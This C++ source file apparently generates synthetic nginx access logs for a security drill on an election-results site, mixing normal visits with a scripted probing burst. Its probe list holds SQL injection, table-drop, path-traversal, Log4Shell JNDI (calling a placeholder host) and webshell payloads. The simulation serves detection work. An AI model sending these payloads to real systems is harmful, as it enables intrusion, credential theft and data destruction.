// nginx's access log of the public result site: readers, the app's uploads, and one source probing.
#include <array>

#include "daemon/drill/generate/night.hpp"

namespace kentongan::generate {

namespace {

using std::chrono::minutes;
using std::chrono::seconds;

constexpr std::array<std::string_view, 4> kBrowsers{
    "Mozilla/5.0 (Linux; Android 13; SM-A155F) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/130.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
    "okhttp/4.12.0"};

constexpr std::array<std::string_view, 6> kAssets{"/assets/index-8f3a1c.js", "/assets/app-1b2c.css",
                                                  "/img/logo-kpu.png",       "/favicon.ico",
                                                  "/fonts/inter.woff2",      "/img/peta-dki.svg"};

/// Innocent texts that look a little like attacks.
constexpr std::array<std::string_view, 4> kSearches{"/cari?q=Jum%27at", "/cari?q=Ma%27ruf+Amin",
                                                    "/cari?q=select+order+by+nama",
                                                    "/cari?q=union+pekerja"};

constexpr std::array<std::string_view, 10> kProbes{
    "/api/tps?id=1%27%20UNION%20SELECT%20username,password%20FROM%20pengguna--%20-",
    "/api/tps?id=1%20AND%20SLEEP(5)",
    "/api/tps?id=1%27%20OR%20%271%27=%271",
    "/api/wilayah?kode=31%27;DROP%20TABLE%20suara_c;--",
    "/unduh?file=../../../../etc/passwd",
    "/unduh?file=..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/api/tps?id=%24%7Bjndi:ldap://198.51.100.9/a%7D",
    "/api/tps?id=(SELECT%20table_name%20FROM%20information_schema.tables)",
    "/upload/3171011001001.jpg/.php?cmd=id",
    "/.env"};

class NginxLog {
  public:
    explicit NginxLog(const Night& night) : night_(night), random_(night.seed ^ 0x4E61) {}

    std::vector<Line> make() {
        const int visits = static_cast<int>(20'000 * night_.scale);
        for (int i = 0; i < visits; ++i)
            visit(night_.begin +
                  Duration{static_cast<std::int64_t>(random_.real() * whole_night())});
        if (night_.attacked) probing(minutes{140});
        return in_order(std::move(lines_));
    }

  private:
    double whole_night() const {
        return static_cast<double>((std::chrono::hours{24} - night_.begin).count());
    }

    void request(Timestamp time, const std::string& ip, std::string_view method,
                 std::string_view uri, int status, std::int64_t bytes, std::string_view agent) {
        lines_.push_back(
            {time, fmt::format(R"({} - - [{} +0700] "{} {} HTTP/1.1" {} {} "{}" "{}")", ip,
                               local_time(time, "{:%d/%b/%Y:%H:%M:%S}"), method, uri, status, bytes,
                               "https://pilkada2024.kpu.go.id/", agent)});
    }

    void visit(Duration at) {
        const auto ip = fmt::format("{}.{}.{}.{}", random_.pick(std::array{36, 103, 114, 182}),
                                    random_.below(256), random_.below(256), random_.below(256));
        const auto agent = random_.pick(kBrowsers);
        Timestamp time = place(night_, at);
        request(time, ip, "GET", "/", 200, 4120, agent);
        const auto assets = random_.between(1, 3);
        for (std::int64_t i = 0; i < assets; ++i)
            request(time, ip, "GET", random_.pick(kAssets), 200, random_.between(400, 90'000),
                    agent);
        time += seconds{random_.between(1, 20)};
        if (random_.chance(0.05))
            request(time, ip, "GET", random_.pick(kSearches), 200, 2011, agent);
        request(time, ip, "GET",
                fmt::format("/pilkada/hhcw/pkwkp/31/317{}.json", random_.between(1, 5)),
                random_.chance(0.01) ? 304 : 200, random_.between(900, 5000), agent);
    }

    void probing(Duration at) {
        Timestamp time = place(night_, at);
        for (int round = 0; round < 3; ++round)
            for (const auto probe : kProbes) {
                request(time, "198.51.100.23", "GET", probe, random_.chance(0.3) ? 500 : 404, 512,
                        "sqlmap/1.8.9#stable (https://sqlmap.org)");
                time += std::chrono::milliseconds{random_.between(100, 900)};
            }
    }

    const Night& night_;
    Random random_;
    std::vector<Line> lines_;
};

}  // namespace

std::vector<Line> nginx_log(const Night& night) { return NginxLog{night}.make(); }

}  // namespace kentongan::generate
